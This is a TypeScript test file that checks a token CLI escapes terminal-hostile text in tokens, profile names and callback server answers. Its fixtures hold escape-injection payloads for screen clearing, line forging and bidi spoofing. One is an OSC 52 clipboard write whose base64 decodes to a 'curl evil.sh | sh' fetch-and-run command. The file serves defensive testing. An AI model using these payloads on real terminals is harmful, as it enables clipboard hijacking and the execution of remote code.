/**
 * Hostile text on the terminal: a token, a profile name from an edited or imported file, or a
 * callback server's answer holding `ESC[2J` (clear screen), OSC 52 (write the clipboard), `\r`
 * (overwrite the line), a newline (forge a line), C1 CSI or a bidi override. The CLI must show
 * all of it escaped — readable, inert — and `--json` must still round-trip the exact value.
 */
import { mkdtemp, rm, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createMemorySecretStore, type MemorySecretStore } from '../../src/main/vault/memorySecretStore';
import { runTokenlab, type CliRunOptions } from '../support/cliHarness';
import { listenLocal, readRequestBody, type LocalHttpServer } from '../support/localHttpServer';

const HOSTILE = {
  clearScreen: '\u001b[2J\u001b[H',
  clipboard: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
  carriageReturn: 'x\rVALID  ',
  newline: 'https://evil.example/\nVALID forged line',
  c1Csi: '\u009b2J',
  bidi: 'abc\u202eexe.fdp',
  del: 'a\u007fb',
};
const ALL_HOSTILE = Object.values(HOSTILE).join('|');

/** Any character a terminal would act on, or that reorders or breaks what is shown. */
// eslint-disable-next-line no-control-regex -- control characters are what this test looks for
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
/** The only escape sequences the CLI itself writes: its colours. */
// eslint-disable-next-line no-control-regex -- ESC is what this test looks for
const OUR_COLOURS = /\u001b\[(?:0|2|3[1-6])m/g;

function expectInert(text: string, options: { colours?: boolean } = {}): void {
  const rest = options.colours ? text.replace(OUR_COLOURS, '') : text;
  expect(rest).not.toMatch(RAW_CONTROL);
  expect(text).not.toContain('\nVALID forged line');
}

const commsEaseToken = (signature: string) =>
  Buffer.from(JSON.stringify({ signature, curTime: 1_700_000_000_000, ttl: 600 })).toString('base64');

let home: string;
let secrets: MemorySecretStore;
const cli = (argv: string[], options: CliRunOptions = {}) => runTokenlab(argv, { env: { TOKENLAB_HOME: home }, secretStore: secrets, ...options });

beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'tokenlab-hostile-tty-'));
  secrets = createMemorySecretStore();
});
afterEach(() => rm(home, { recursive: true, force: true }));

describe('inspect and verify show hostile token text escaped', () => {
  for (const [name, payload] of Object.entries(HOSTILE)) {
    it(`a decoded field holding ${name}: text output is inert, JSON keeps the exact value`, async () => {
      const token = commsEaseToken(payload);
      const plain = await cli(['inspect', '--now', '1700000000', token]);
      expectInert(plain.stdout + plain.stderr);
      expect(plain.stdout).toContain('signature=');

      const tty = await cli(['inspect', '--now', '1700000000', token], { stdoutIsTTY: true });
      expect(tty.stdout).toContain('\u001b[36mUNVERIFIED'); // our colours still work
      expectInert(tty.stdout, { colours: true });

      const json = await cli(['inspect', '--json', '--now', '1700000000', token]);
      expectInert(json.stdout);
      expect((JSON.parse(json.stdout.split('\n')[0] as string) as { fields: { signature: string } }).fields.signature).toBe(payload);
    });
  }

  it('a hostile string that is no token at all, as an argument and on stdin', async () => {
    const asArg = await cli(['inspect', '--', ALL_HOSTILE]);
    expectInert(asArg.stdout + asArg.stderr);
    const onStdin = await cli(['verify', '--json', '--secret-file', '/nonexistent'], { stdin: `${ALL_HOSTILE}\n` });
    expectInert(onStdin.stdout + onStdin.stderr);
  });

  it('error messages quoting hostile arguments are inert on stderr', async () => {
    const r = await cli([`${HOSTILE.clearScreen}${HOSTILE.clipboard}`]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown command');
    // Not a command word, so not quoted at all (it may be a secret typed in the wrong place): only its length.
    expect(r.stderr).toContain('characters, not shown');
    expectInert(r.stderr);
  });
});

describe('profile names from a hand-edited or imported profiles.json', () => {
  it('profile list shows them escaped; --json round-trips them', async () => {
    await mkdir(home, { recursive: true });
    const profile = (id: string, name: string, env: string) => ({
      id, provider: 'zego', name, env, appId: 1, appKey: null, apiBase: null, fingerprint: null, secretStored: false, staticTokenAccids: [], createdAt: 1_700_000_000,
    });
    await writeFile(
      join(home, 'profiles.json'),
      JSON.stringify({ schemaVersion: 1, profiles: [profile('00000000000000a1', HOSTILE.clipboard, HOSTILE.carriageReturn), profile('00000000000000a2', HOSTILE.newline, HOSTILE.bidi)] }),
    );
    const list = await cli(['profile', 'list']);
    expect(list.code).toBe(0);
    expectInert(list.stdout + list.stderr);
    expect(list.stdout.trim().split('\n')).toHaveLength(3); // header + one line per profile, none forged
    const json = await cli(['profile', 'list', '--json']);
    expectInert(json.stdout);
    expect((JSON.parse(json.stdout) as { name: string }[]).map((p) => p.name)).toEqual([HOSTILE.clipboard, HOSTILE.newline]);
  });
});

describe('a callback server answering with hostile text', () => {
  let server: LocalHttpServer;
  beforeEach(async () => {
    server = await listenLocal((req, res) => {
      void readRequestBody(req).then(() => res.writeHead(200, { 'content-type': 'text/plain' }).end(`${ALL_HOSTILE}\n{"errCode":0}`));
    });
    const added = await cli(['profile', 'add', '--provider', 'commsease', '--name', 'acme', '--app-key', 'abcdefabcdefabcdefabcdefabcdef12'], { stdin: 'app-secret\n' });
    expect(added.code).toBe(0);
  });
  afterEach(() => server.close());

  it('callback send prints the answer escaped on one line; --json stays valid', async () => {
    const url = `http://127.0.0.1:${server.port}/cb`;
    const argv = ['commsease', 'callback', 'send', '--profile', 'acme', '--url', url, '--accid', 'ivy', '--client-type', 'web'];
    const r = await cli(argv, { stdin: 'ivy-token\n' });
    expect(r.stdout).toContain('answer: HTTP 200');
    expect(r.stdout).toContain('\\x1b]52;c;');
    expectInert(r.stdout + r.stderr);
    const json = await cli([...argv, '--json'], { stdin: 'ivy-token\n' });
    expectInert(json.stdout);
    expect((JSON.parse(json.stdout) as { response: { body: string } }).response.body).toContain(HOSTILE.clipboard);
  });
});
